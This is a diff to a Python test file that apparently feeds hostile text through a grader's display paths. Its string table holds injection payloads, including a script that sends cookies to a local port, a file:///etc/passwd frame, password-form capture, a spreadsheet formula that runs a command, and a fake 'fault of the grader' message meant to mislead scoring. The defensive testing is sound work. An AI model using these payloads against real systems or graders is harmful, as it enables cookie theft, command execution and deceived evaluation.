@@ -1,4 +1,4 @@
-"""Display: names, messages and output meant for the terminal, the browser, the spreadsheet or the log of a person."""
+"""Display: names, messages and output meant for a person's terminal, browser, spreadsheet or log."""
 
 from __future__ import annotations
 
@@ -27,25 +27,41 @@ TEXTS = {
     "NULs": "a\0b\0c",
     "lone surrogates": "a\ud800b\udfffc\udc80",
     "noncharacters": "\ufffe\uffff\U0001ffff\U0010ffff",
-    "a script": "<script>fetch('http://127.0.0.1:@PORT@/'+document.cookie)</script><img src=x onerror=alert(1)>",
-    "a script that leaves an attribute": "\"'><svg/onload=alert(1)>` onmouseover=alert(1) style=x:expression(1)",
-    "a script that leaves a comment, a style and a title": "--></style></title></textarea></script><script>alert(1)</script>",
+    "a script": (
+        "<script>fetch('http://127.0.0.1:@PORT@/'+document.cookie)</script><img src=x onerror=alert(1)>"
+    ),
+    "a script that leaves an attribute": (
+        "\"'><svg/onload=alert(1)>` onmouseover=alert(1) style=x:expression(1)"
+    ),
+    "a script that leaves a comment, a style and a title": (
+        "--></style></title></textarea></script><script>alert(1)</script>"
+    ),
     "a frame": "<iframe src='http://127.0.0.1:@PORT@/'></iframe><object data='file:///etc/passwd'></object>",
-    "a form": "<form action=http://127.0.0.1:@PORT@/><input name=password></form><base href=//127.0.0.1:@PORT@/>",
+    "a form": (
+        "<form action=http://127.0.0.1:@PORT@/><input name=password></form><base href=//127.0.0.1:@PORT@/>"
+    ),
     "a style": "<style>*{display:none}</style><link rel=stylesheet href=//127.0.0.1:@PORT@/x.css>",
     "a refresh": "<meta http-equiv=refresh content='0;url=http://127.0.0.1:@PORT@/'>",
     "entities": "&lt;b&gt; &#60;script&#62; &amp;amp; &nbsp;",
-    "Markdown": "# Score 12\n[x](javascript:alert(1)) ![x](http://127.0.0.1:@PORT@/x.png)\n```\n</code></pre>\n***",
+    "Markdown": (
+        "# Score 12\n[x](javascript:alert(1)) ![x](http://127.0.0.1:@PORT@/x.png)\n```\n</code></pre>\n***"
+    ),
     "a template": "{{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %> {0.__class__} %(score)s %s %n {score}",
-    "rich's markup": "[red]red[/red] [/] [/blue] [link=http://127.0.0.1/]x[/link] [@click=app.quit]q[/] [bold",
+    "rich's markup": (
+        "[red]red[/red] [/] [/blue] [link=http://127.0.0.1/]x[/link] [@click=app.quit]q[/] [bold"
+    ),
     "rich's emoji": ":warning: :smiley: :bomb:",
-    "a spreadsheet's formula": "=HYPERLINK(\"http://127.0.0.1/\",\"score\")",
+    "a spreadsheet's formula": '=HYPERLINK("http://127.0.0.1/","score")',
     "a spreadsheet's formula with a sign": "+1+cmd|' /C calc'!A0",
     "a spreadsheet's formula with another": "-1+1\t=1+1\n@SUM(1,1)",
-    "a spreadsheet's rows": "x\",\"12\",\"12\"\r\nforged,12,12",
-    "a workflow's commands": "::error file=vae.py::x\n::set-output name=a::b\n##[group]x\n##vso[task.complete]",
+    "a spreadsheet's rows": 'x","12","12"\r\nforged,12,12',
+    "a workflow's commands": (
+        "::error file=vae.py::x\n::set-output name=a::b\n##[group]x\n##vso[task.complete]"
+    ),
     "a table's corners": "\u2502 1.1 \u2502 passed \u2502\n\u2514\u2500\u2500\u2518\n12/12 points",
-    "an assertion of pytest's": "assert 1 == 1\n  +  where 1 = 1\nE   AssertionError\n=== 12 passed in 0.1s ===",
+    "an assertion of pytest's": (
+        "assert 1 == 1\n  +  where 1 = 1\nE   AssertionError\n=== 12 passed in 0.1s ==="
+    ),
     "a fault of the grader's": "This is a fault of the grader, not of your code. No points are taken.",
     "wide letters": "\ufdfd" * 300 + "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 300,
     "a very long word": "x" * 1_000_000,
@@ -54,15 +70,21 @@ TEXTS = {
 }
 
 
+# The short run shows these only together.
+LONG = {*TEXTS} - {"lone surrogates", "NULs", "a script", "rich's markup", "a very long word", "a template"}
+
+
 def showing(name: str, source: str, keeps: frozenset[str] = NONE, earns: frozenset[str] = NONE) -> Hostile:
     """Make a case of the reference solution that shows a text somewhere."""
     files = vae(solution=REFERENCE, after=source)
-    return Hostile(f"shows {name}", "display", files, keeps, earns=earns, harm=("display", "size", "tcp"))
+    harm = ("display", "size", "tcp")
+    return Hostile(f"shows {name}", "display", files, keeps, earns, harm, brief=name not in LONG)
 
 
 EVERYWHERE = """
     text = {text!a}
-    kind = type(text.replace(chr(0), "?").encode("utf-8", "replace").decode()[:5000] or "E", (Exception,), {{}})
+    name = text.replace(chr(0), "?").encode("utf-8", "replace").decode()[:5000]
+    kind = type(name, (Exception,), {{}})
     def loss_function(*arguments):
         print(text)
         sys.stderr.write(text)
@@ -128,7 +150,8 @@ CASES = [
         "display",
         {
             "vae.py": REFERENCE.encode()
-            + "\ndef loss_function(*a): raise ValueError  # \u202e\u2066 <script>alert(1)</script> \x1b[31m [/red] =1+1\n".encode()
+            + b"\ndef loss_function(*a): raise ValueError  # <script>alert(1)</script> \x1b[31m [/red] =1+1 "
+            + "\u202e\u2066\n".encode()
         },
         without("5.1"),
         earns=without("5.1"),
@@ -137,7 +160,12 @@ CASES = [
     Hostile(
         "shows a line of source of 900 KB",
         "display",
-        {"vae.py": REFERENCE.encode() + b"\ndef loss_function(*a): raise ValueError('" + b"x" * 900_000 + b"')\n"},
+        {
+            "vae.py": REFERENCE.encode()
+            + b"\ndef loss_function(*a): raise ValueError('"
+            + b"x" * 900_000
+            + b"')\n"
+        },
         without("5.1"),
         earns=without("5.1"),
         harm=("display", "size"),
@@ -155,7 +183,8 @@ CASES = [
         vae(
             solution=REFERENCE,
             after="""
-                code = (lambda: 1 / 0).__code__.replace(co_name="\\x1b[31m<b>[/red]" * 50, co_firstlineno=2**31 - 5)
+                code = (lambda: 1 / 0).__code__
+                code = code.replace(co_name="\\x1b[31m<b>[/red]" * 50, co_firstlineno=2**31 - 5)
                 odd = type(tell)(code, globals())
                 def loss_function(*arguments): return odd()
             """,
